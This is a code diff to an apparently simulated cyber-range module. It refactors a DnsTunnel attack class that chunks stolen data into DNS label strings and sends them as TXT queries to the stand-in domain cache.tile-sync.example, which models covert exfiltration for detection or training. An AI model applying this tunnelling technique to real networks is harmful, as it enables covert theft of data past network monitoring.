@@ -2,6 +2,7 @@
 
 import base64
 from collections.abc import Iterator
+from dataclasses import dataclass
 
 from wardline_range.attacks.attack import Attack
 from wardline_range.clock import Process
@@ -9,13 +10,16 @@ from wardline_range.protocols import dns
 from wardline_range.protocols.noise import noise
 
 
+@dataclass(kw_only=True, eq=False)
 class DnsTunnel(Attack):
     """A question every second or so, each with up to 105 bytes of what is stolen in its labels."""
 
     name = "dns-tunnel"
     techniques = ("T1071.004", "T1048.003")
-    description = "The television carries data out in the labels of TXT questions to one domain."
-    domain = "cache.tile-sync.example"
+    description = "The device carries data out in the labels of TXT questions to one domain."
+
+    domain: str = "cache.tile-sync.example"
+    every_s: float = 0.9
 
     def steps(self) -> Iterator[tuple[str, Process]]:
         """One step."""
@@ -29,7 +33,7 @@ class DnsTunnel(Attack):
             labels = [text[at : at + 57] for at in range(0, len(text), 57)]
             name = ".".join((f"{serial:04x}", *labels, self.domain))
             orders = base64.b64encode(noise(chance, 12 + chance.below(60))).decode()
-            now = self.site.clock.now
+            now = self.now
             self.device.ask(name, "TXT", (dns.txt(name, orders, ttl=0),), now, self.label("tunnel"))
             serial += 1
-            yield 0.3 + chance.waiting(0.9)
+            yield 0.3 + chance.waiting(self.every_s)
